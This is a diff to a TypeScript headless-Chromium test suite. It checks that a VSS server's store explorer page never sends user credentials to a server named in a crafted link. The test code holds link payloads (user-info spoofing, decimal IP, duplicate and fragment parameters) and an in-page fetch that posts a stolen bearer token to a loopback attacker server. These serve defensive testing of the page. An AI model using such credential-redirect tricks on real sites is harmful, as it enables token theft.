@@ -1,10 +1,12 @@
 // The explorer in headless Chromium against a real vss-server: served by the server at
-// /explorer/, and served from another origin, calling the server through CORS.
+// /explorer/, and served from another origin, calling the server through CORS. A link
+// cannot make the page send the user's credentials to any other server: an attacker's
+// server on loopback records every request it gets, and must get none.
 import assert from "node:assert/strict";
 import { randomBytes } from "node:crypto";
 import { readFile } from "node:fs/promises";
-import { createServer, type Server } from "node:http";
-import type { AddressInfo } from "node:net";
+import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
+import { createServer as createTCPServer, type AddressInfo } from "node:net";
 import { extname, join, normalize } from "node:path";
 import { after, before, describe, it } from "node:test";
 import { fileURLToPath } from "node:url";
@@ -18,8 +20,12 @@ const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
 const distDir = fileURLToPath(new URL("../../../dist/", import.meta.url));
 const encoder = new TextEncoder();
 
-/** serveDist serves the explorer's build from its own loopback origin. */
-async function serveDist(): Promise<{ origin: string; server: Server }> {
+/**
+ * serveDist serves the explorer's build from its own loopback origin, with a config.json
+ * that allows the servers in allowed (set them before loading the page).
+ */
+async function serveDist(): Promise<{ origin: string; server: Server; allowed: string[] }> {
+  const allowed: string[] = [];
   const types: Record<string, string> = {
     ".html": "text/html; charset=utf-8",
     ".js": "text/javascript",
@@ -27,6 +33,10 @@ async function serveDist(): Promise<{ origin: string; server: Server }> {
   };
   const server = createServer(async (req, res) => {
     const path = new URL(req.url ?? "/", "http://x").pathname;
+    if (path === "/config.json") {
+      res.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ allowedServers: allowed }));
+      return;
+    }
     const file = normalize(join(distDir, path === "/" ? "index.html" : path));
     if (!file.startsWith(distDir)) {
       res.writeHead(404).end();
@@ -41,7 +51,83 @@ async function serveDist(): Promise<{ origin: string; server: Server }> {
   });
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
   const { port } = server.address() as AddressInfo;
-  return { origin: `http://127.0.0.1:${port}`, server };
+  return { origin: `http://127.0.0.1:${port}`, server, allowed };
+}
+
+/** A request the attacker's server received. */
+interface Received {
+  method: string;
+  url: string;
+  headers: IncomingHttpHeaders;
+}
+
+/**
+ * startAttacker starts a loopback server that records every request and answers like a
+ * VSS server that lets any origin call it: preflights pass, and every call gets an empty
+ * Connect JSON message, which the page would show as an empty store.
+ */
+async function startAttacker(): Promise<{ origin: string; received: Received[]; server: Server }> {
+  const received: Received[] = [];
+  const server = createServer((req, res) => {
+    received.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers });
+    req.resume();
+    const cors = {
+      "Access-Control-Allow-Origin": req.headers.origin ?? "*",
+      "Access-Control-Allow-Methods": "GET, POST, OPTIONS",
+      "Access-Control-Allow-Headers": req.headers["access-control-request-headers"] ?? "*",
+      "Access-Control-Expose-Headers": "*",
+    };
+    if (req.method === "OPTIONS") {
+      res.writeHead(204, cors).end();
+      return;
+    }
+    res.writeHead(200, { ...cors, "Content-Type": "application/json", "vss-protocol-version": "0" }).end("{}");
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  return { origin: `http://127.0.0.1:${port}`, received, server };
+}
+
+/** describeReceived lists what the attacker got, with the credentials it could steal. */
+function describeReceived(received: Received[]): string {
+  return received
+    .map((r) => {
+      const creds = r.headers.authorization ? ` with Authorization: ${r.headers.authorization.slice(0, 40)}…` : "";
+      return `${r.method} ${r.url}${creds}`;
+    })
+    .join("\n");
+}
+
+/** freePort returns a loopback port that was free a moment ago. */
+async function freePort(): Promise<number> {
+  const srv = createTCPServer();
+  await new Promise<void>((resolve) => srv.listen(0, "127.0.0.1", resolve));
+  const { port } = srv.address() as AddressInfo;
+  await new Promise((resolve) => srv.close(resolve));
+  return port;
+}
+
+/** watchedPage opens a page that records the URL of every request it makes and every CSP violation. */
+async function watchedPage(browser: Browser): Promise<{ page: Page; requests: string[]; violations: () => Promise<string[]> }> {
+  const page = await browser.newPage();
+  page.setDefaultTimeout(15_000);
+  const requests: string[] = [];
+  page.on("request", (r) => requests.push(r.url()));
+  await page.addInitScript(() => {
+    const seen: string[] = [];
+    (globalThis as unknown as { cspViolations: string[] }).cspViolations = seen;
+    document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
+  });
+  const violations = () => page.evaluate(() => (globalThis as unknown as { cspViolations?: string[] }).cspViolations ?? []);
+  return { page, requests, violations };
+}
+
+/** settled waits until the page's status shows the outcome of the last action. */
+async function settled(page: Page): Promise<void> {
+  await page.waitForFunction(() => {
+    const text = document.querySelector("#status")?.textContent ?? "";
+    return text !== "" && !text.endsWith("…");
+  });
 }
 
 /** waitForText waits until the element matching selector contains text. */
@@ -74,7 +160,7 @@ async function signIn(page: Page, url: string, privateKey: string, store: string
 describe("store explorer in Chromium", () => {
   let vss: TestServer;
   let noCors: TestServer;
-  let pages: { origin: string; server: Server };
+  let pages: { origin: string; server: Server; allowed: string[] };
   let browser: Browser;
   let page: Page;
 
@@ -192,6 +278,8 @@ describe("store explorer in Chromium", () => {
         transactionItems: [{ key: "from-node", version: 0n, value: encoder.encode("visible across origins") }],
       });
     }
+    // The page served elsewhere calls only the servers its own origin's config.json allows.
+    pages.allowed.push(vss.baseUrl, noCors.baseUrl);
     const pageUrl = (server: TestServer) => `${pages.origin}/?server=${encodeURIComponent(server.baseUrl)}`;
     assert.notEqual(new URL(pages.origin).origin, new URL(vss.baseUrl).origin);
 
@@ -205,5 +293,147 @@ describe("store explorer in Chromium", () => {
     await signIn(page, pageUrl(noCors), key, store);
     await page.locator("#status.error").waitFor();
     assert.equal(await page.locator("#keys button.key").count(), 0);
+  });
+
+  /**
+   * linkAttacks are links to the explorer whose address names the attacker's server, in
+   * every form the page ever read a server from: ?server= with the bare origin, a trailing
+   * slash, a path, upper case, user info that looks like the real server, a decimal IP,
+   * unencoded, repeated, next to ?store=; and the fragment.
+   */
+  function linkAttacks(explorer: string, attacker: string): string[] {
+    const port = new URL(attacker).port;
+    const own = new URL(explorer).host;
+    const q = (v: string) => `?server=${encodeURIComponent(v)}`;
+    return [
+      q(attacker),
+      q(attacker + "/"),
+      q(attacker + "/vss.v1.VssService/"),
+      q(attacker.toUpperCase()),
+      q(`http://${own}@127.0.0.1:${port}`),
+      q(`http://2130706433:${port}`),
+      `?server=${attacker}`,
+      `${q(attacker)}&server=${encodeURIComponent(new URL(explorer).origin)}`,
+      `?store=link-attack&server=${encodeURIComponent(attacker)}`,
+      `#server=${encodeURIComponent(attacker)}`,
+      `#?server=${encodeURIComponent(attacker)}`,
+    ].map((link) => explorer + link);
+  }
+
+  /**
+   * tryLinkAttacks opens each link, signs in (with a private key, and once with a bearer
+   * token), lists a store, and checks that the attacker received nothing while the page
+   * listed the store on ownServer.
+   */
+  async function tryLinkAttacks(explorer: string, ownServer: TestServer, attacker: { origin: string; received: Received[] }): Promise<void> {
+    const key = randomBytes(32).toString("hex");
+    const store = "link-attack";
+    await createNodeVssClient(ownServer.baseUrl, { auth: { privateKey: key } }).putObjects({
+      storeId: store,
+      transactionItems: [{ key: "own-server", version: 0n, value: encoder.encode("read from the page's own server") }],
+    });
+    const { page, requests, violations } = await watchedPage(browser);
+    try {
+      for (const link of linkAttacks(explorer, attacker.origin)) {
+        requests.length = 0;
+        await signIn(page, link, key, store);
+        await settled(page);
+        assert.equal(attacker.received.length, 0, `${link} sent the attacker:\n${describeReceived(attacker.received)}`);
+        const elsewhere = requests.filter((u) => new URL(u).origin !== new URL(explorer).origin && new URL(u).origin !== ownServer.baseUrl);
+        assert.deepEqual(elsewhere, [], `${link}: the page called other servers`);
+        await page.locator('#keys button.key[data-key="own-server"]').waitFor();
+        assert.equal(await page.inputValue("#server"), ownServer.baseUrl);
+        if (new URL(link).searchParams.has("server")) {
+          assert.ok(await page.isVisible("#server-note"), `${link}: the page does not say it ignored the server`);
+        }
+      }
+
+      await page.goto(linkAttacks(explorer, attacker.origin)[0]!);
+      await page.check('input[name="auth"][value="bearer"]');
+      await page.fill("#bearer-token", "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ2aWN0aW0ifQ.c2lnbmF0dXJl");
+      await page.fill("#store-id", store);
+      await page.click("#load");
+      await settled(page);
+      assert.equal(attacker.received.length, 0, `a bearer token went to the attacker:\n${describeReceived(attacker.received)}`);
+      assert.deepEqual(await violations(), [], "the page tried to load or connect to something its policy forbids");
+
+      // Even a script running in the page cannot reach the attacker: the server's
+      // Content-Security-Policy blocks it in the browser.
+      const reached = await page.evaluate(async (url) => {
+        try {
+          await fetch(url, { method: "POST", headers: { Authorization: "Bearer stolen" }, body: "{}" });
+          return true;
+        } catch {
+          return false;
+        }
+      }, attacker.origin + "/vss.v1.VssService/ListKeyVersions");
+      assert.equal(reached, false, "fetch to the attacker succeeded");
+      assert.equal(attacker.received.length, 0, `a script reached the attacker:\n${describeReceived(attacker.received)}`);
+      // The browser reports the blocked connection.
+      await page.waitForFunction(() =>
+        ((globalThis as unknown as { cspViolations?: string[] }).cspViolations ?? []).some((v) => v.startsWith("connect-src")),
+      );
+    } finally {
+      await page.close();
+    }
+  }
+
+  it("never sends credentials to a server a link names", async () => {
+    const attacker = await startAttacker();
+    try {
+      await tryLinkAttacks(vss.baseUrl + "/explorer/", vss, attacker);
+    } finally {
+      await new Promise((resolve) => attacker.server.close(resolve));
+    }
+  });
+
+  it("calls the servers its operator allows, and no other", async () => {
+    const attacker = await startAttacker();
+    const explorerPort = await freePort();
+    const explorerOrigin = `http://127.0.0.1:${explorerPort}`;
+    const other = await startServer(["--auth", "signature", "--cors-origins", explorerOrigin]);
+    const home = await startServer(["--auth", "signature", "--explorer", "--listen", `127.0.0.1:${explorerPort}`], {
+      VSS_EXPLORER_ALLOWED_SERVERS: other.baseUrl,
+    });
+    const { page, requests, violations } = await watchedPage(browser);
+    try {
+      assert.equal(home.baseUrl, explorerOrigin);
+      const res = await fetch(home.baseUrl + "/explorer/");
+      const csp = res.headers.get("content-security-policy") ?? "";
+      assert.match(csp, new RegExp(`(^|; )connect-src 'self' ${other.baseUrl.replace(/[.]/g, "\\.")};`), csp);
+
+      const key = randomBytes(32).toString("hex");
+      const store = "allowed";
+      await createNodeVssClient(other.baseUrl, { auth: { privateKey: key } }).putObjects({
+        storeId: store,
+        transactionItems: [{ key: "on-the-other-server", version: 0n, value: encoder.encode("allowed by the operator") }],
+      });
+
+      await signIn(page, `${home.baseUrl}/explorer/?server=${encodeURIComponent(other.baseUrl)}`, key, store);
+      await page.locator('#keys button.key[data-key="on-the-other-server"]').waitFor();
+      await page.click('#keys button.key[data-key="on-the-other-server"]');
+      await waitForText(page, "#value-content", "allowed by the operator");
+      assert.deepEqual(
+        await page.locator("#server option").evaluateAll((options) => options.map((o) => (o as HTMLOptionElement).value)),
+        [home.baseUrl, other.baseUrl],
+      );
+      assert.ok(requests.some((u) => u.startsWith(other.baseUrl + "/vss.v1.VssService/")), "no call reached the allowed server");
+
+      // Chosen in the form rather than by a link.
+      await signIn(page, `${home.baseUrl}/explorer/`, key, store);
+      await waitForText(page, "#status", "The store has no keys.");
+      await page.selectOption("#server", other.baseUrl);
+      await page.click("#load");
+      await page.locator('#keys button.key[data-key="on-the-other-server"]').waitFor();
+      assert.deepEqual(await violations(), []);
+
+      // The allow list opens the allowed server only.
+      await tryLinkAttacks(home.baseUrl + "/explorer/", home, attacker);
+    } finally {
+      await page.close();
+      await home.stop();
+      await other.stop();
+      await new Promise((resolve) => attacker.server.close(resolve));
+    }
   });
 });
